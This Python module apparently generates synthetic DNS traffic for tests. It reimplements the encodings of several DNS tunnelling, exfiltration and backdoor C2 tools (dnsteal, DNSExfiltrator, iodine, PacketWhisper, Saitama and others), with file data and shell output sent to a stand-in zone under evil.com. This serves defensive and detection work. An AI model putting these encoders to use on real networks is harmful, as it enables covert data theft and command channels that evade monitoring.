# SPDX-License-Identifier: ISC
"""Sessions of tools that there is no capture of, made from what is known of their wire formats:
(labels, type, records of the response), as packets.write_exchange() takes them."""
import base64
import itertools
import random
import struct
import zlib

A, CNAME, NULL, TXT, AAAA = 1, 5, 10, 16, 28
ZONE = [b"t", b"evil", b"com"]


def cut(text, size):
    return [text[at:at + size] for at in range(0, len(text), size)]


def string(text):
    return b"".join(bytes([len(part)]) + part for part in cut(text, 255))


def name(labels):
    return b"".join(bytes([len(label)]) + label for label in labels) + b"\0"


def dnsteal(data, filename):
    text = base64.b64encode(data).replace(b"+", b"*")
    return [([part + b"-" for part in cut(piece, 55)] + filename.split(b"."), A,
             [(A, b"\x0a\0\0\1")]) for piece in cut(text, 165)]


def rc4(key, data):
    state, j, out = list(range(256)), 0, bytearray()
    for i in range(256):
        j = (j + state[i] + key[i % len(key)]) & 255
        state[i], state[j] = state[j], state[i]
    i = j = 0
    for byte in data:
        i = (i + 1) & 255
        j = (j + state[i]) & 255
        state[i], state[j] = state[j], state[i]
        out.append(byte ^ state[(state[i] + state[j]) & 255])
    return bytes(out)


def dnsexfiltrator(data, filename, password, encoding=b"base64"):
    encode = {b"base64": base64.urlsafe_b64encode, b"base32": base64.b32encode}[encoding]
    chunks = cut(encode(rc4(password, data)).rstrip(b"="), 150)
    greeting = base64.b32encode(filename + b"|%d" % len(chunks)).rstrip(b"=")
    return [([b"init", *cut(greeting, 60), encoding] + ZONE, TXT, [(TXT, b"\2OK")])] + [
        ([b"%d" % n, *cut(chunk, 63)] + ZONE, TXT, [(TXT, string(b"%d" % n))])
        for n, chunk in enumerate(chunks)]


def tuns(up, down):
    """Packets both ways."""
    def text(packet):
        return cut(b"d" + base64.b32encode(packet).lower().replace(b"=", b"0"), 60)
    downs = [text(packet) for packet in down]
    exchange = [([b"cmtu", b"140"] + ZONE, CNAME, [(CNAME, name([b"cok"] + ZONE))])]
    for number, (packet, answer) in enumerate(itertools.zip_longest(up, downs)):
        if packet:
            exchange.append((text(packet) + ZONE, CNAME, [(CNAME, name([b"l0"] + ZONE))]))
        exchange.append(([b"r%d" % number] + ZONE, CNAME,
                         [(CNAME, name((answer or [b"l0"]) + ZONE))]))
    return exchange


def ozymandns(up, down, ident=4711):
    source = random.Random(ident)
    exchange = []
    for piece in cut(up, 100):
        labels = cut(base64.b32encode(piece).rstrip(b"=").lower(), 60)
        exchange.append((labels + [b"%d-0" % source.randrange(65536), b"id-%d" % ident, b"up",
                                   b"sshdns"] + ZONE, A, [(A, bytes([len(piece), 0, 0, 0]))]))
    at = 0
    for piece in cut(down, 200):
        parts = [base64.b64encode(part) + b"\n" for part in cut(piece, 110)]
        exchange.append(([b"%d-%d" % (at, source.randrange(65536)), b"id-%d" % ident, b"down",
                          b"sshdns"] + ZONE, TXT, [(TXT, b"".join(map(string, parts)))]))
        at += len(piece)
    return exchange


def dns_shell(commands):
    """(command, its output) pairs."""
    exchange = []
    for number, (command, output) in enumerate(commands):
        tag = b"%05d" % (number * 7919 % 100000)
        exchange.append(([tag] + ZONE, TXT, [(TXT, string(command))]))
        parts = cut(output.hex().encode(), 50)
        exchange.append(([tag, b"CMDC%d" % len(parts)] + ZONE, A, []))
        exchange += [([b"%d" % (10000 + i * 31 + number), b"CMD%d" % i, part] + ZONE, A, [])
                     for i, part in enumerate(parts)]
        exchange.append(([tag, b"END"] + ZONE, A, []))
        exchange += [([b"9%d%04d" % (number, i)] + ZONE, TXT, [(TXT, b"\5NoCMD")])
                     for i in range(3)]
    return exchange


GROUPS = {  # of tcp-over-dns: alphabet, bytes and symbols of a group
    "b": (b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-", 5, 7),
    "h": (b"abcdefghijklmnopqrstuvwxyz0123456789-", 7, 11),
    "txt": (bytes(c for c in range(33, 126) if c not in b'"\\()@;'), 4, 5),
}


def grouped(alphabet, size, symbols, data):
    out = b""
    for piece in cut(data, size):
        number, text = int.from_bytes(piece.ljust(size, b"\0"), "big"), b""
        for _ in range(symbols):
            number, digit = divmod(number, len(alphabet))
            text = alphabet[digit:digit + 1] + text
        out += text
    return out


def sized(mark, data):
    length = struct.pack("<H", len(data))
    return grouped(*GROUPS[mark], length) + grouped(*GROUPS[mark], data)


def tcp_over_dns(up, down, mark, qtype, session=0x9234):
    def packet(number, flags, data):
        head = struct.pack("<HBBB", session, number & 255, 0, flags)
        total = (session & 255) + number + flags + len(data) + sum(data)
        return head + bytes([-total & 255]) + data

    def written(data):
        if mark == "a":
            text = b"a" + bytes(97 + n for b in data for n in (b & 15, b >> 4))
        else:
            text = mark.encode() + sized(mark, data)
        return cut(text, 63)

    exchange = []
    pairs = itertools.zip_longest(cut(up, 40), cut(down, 40))
    for number, (sent, got) in enumerate(pairs, 1):
        query = packet(number, 1, sent) if sent else packet(0, 2, struct.pack(">Q", number))
        answer = packet(number, 1, got) if got else packet(0, 2, b"")
        rdata = string(sized("txt", answer)) if qtype == TXT else name(written(answer))
        exchange.append((written(query) + ZONE, qtype, [(qtype, rdata)]))
    return exchange


def packetwhisper(data, words, tail, zone):
    """A code book of random tails: one name for each character, asked for A and for AAAA."""
    order = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789/+="
    source = random.Random(len(data))
    exchange = []
    for character in base64.b64encode(data):
        noise = bytes(source.choices(b"abcdefghijklmnopqrstuvwxyz0123456789", k=tail))
        labels = [words[order.index(character)] + noise] + zone
        exchange += [(labels, A, None), (labels, AAAA, None)]
    return exchange


BASE32 = b"abcdefghijklmnopqrstuvwxyz012345"


def iodine32(data):
    number, bits = int.from_bytes(data, "big"), len(data) * 8
    number, bits = number << -bits % 5, bits + -bits % 5
    return bytes(BASE32[number >> at & 31] for at in range(bits - 5, -5, -5))


def iodine(packets):
    """What goes up, in base32 as behind a resolver that changes names; pings between. Packets are
    IPv4."""
    seed, counter, exchange = 1000, 0, []

    def command(letter, data, answer):
        nonlocal seed
        seed = seed + 1 & 0x7FFF
        text = letter + iodine32(data + struct.pack(">H", seed))
        exchange.append((cut(text, 57) + ZONE, NULL, [(NULL, answer)]))
    command(b"v", b"\0\0\5\2", b"VACK\1\2\3\4\0")
    command(b"l", b"\0" + bytes(16), b"10.1.0.1-10.1.0.2-1130-27")
    for number, packet in enumerate(packets):
        seq = number % 8
        parts = cut(zlib.compress(b"\0\0\x08\0" + packet), 60)
        for i, part in enumerate(parts):
            word = seq << 12 | i << 8 | (i == len(parts) - 1)
            head = bytes(BASE32[word >> at & 31] for at in (10, 5, 0))
            mark = b"abcdefghijklmnopqrstuvwxyz0123456789"[counter % 36:][:1]
            counter += 1
            exchange.append((cut(b"0" + head + mark + iodine32(part), 57) + ZONE, NULL,
                             [(NULL, b"\0\0")]))
        command(b"p", b"\0\0", b"\0\0")
    return exchange


def twister(seed):
    """The 32-bit numbers of MT19937 under a seed of one word, as its inventors seed it."""
    state = [seed]
    for i in range(1, 624):
        state.append((1812433253 * (state[-1] ^ state[-1] >> 30) + i) & 0xFFFFFFFF)
    source = random.Random()
    source.setstate((3, (*state, 624), None))
    return lambda: source.getrandbits(32)


def saitama(command, result, agent=77, lost=()):
    """An agent is greeted, told a command, and sends its result (deflated) in pieces; its counter
    runs on over three domains."""
    letters = b"abcdefghijklmnopqrstuvwxyz0123456789"
    digits = b"razupgnv2w01eos4t38h7yqidxmkljc6b9f5"
    zones = [[b"one", b"test"], [b"two", b"test"], [b"three", b"test"]]
    counter, exchange = 17103, []

    def number(value, width):
        return [value // 36 ** at % 36 for at in range(width - 1, -1, -1)]

    def ask(values, address, is_lost=False):
        nonlocal counter
        draw, left, alphabet = twister(counter), bytearray(letters), []
        for n in range(36, 0, -1):
            alphabet.append(left.pop(draw() % n))
        label = bytes(alphabet[v] for v in values) + bytes(digits[d] for d in number(counter, 3))
        if not is_lost:
            exchange.append(([label] + zones[counter % 3], A, [(A, address)]))
        counter += 1

    who = number(agent, 2)
    ask([1, 2, 3, 4, 5, 6, 7], bytes([144, 1, 2, agent]))
    whole = b"\x46" + command
    ask(who, b"\xa9" + len(whole).to_bytes(3, "big"))
    for at in range(0, len(whole), 4):
        ask([2] + who + number(at, 3), whole[at:at + 4].ljust(4, b"\0"))
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = b"\x3d" + packer.compress(result) + packer.flush()
    for at in range(0, len(packed), 12):
        part = base64.b32encode(packed[at:at + 12]).rstrip(b"=").lower()
        head = [1] + who + number(at, 3) + (number(len(packed), 3) if at == 0 else [])
        ask(head + [letters.index(c) if c > 57 else c - 48 + 26 for c in part],
            bytes([1, 2, 3, 4]), at // 12 in lost)
    return exchange
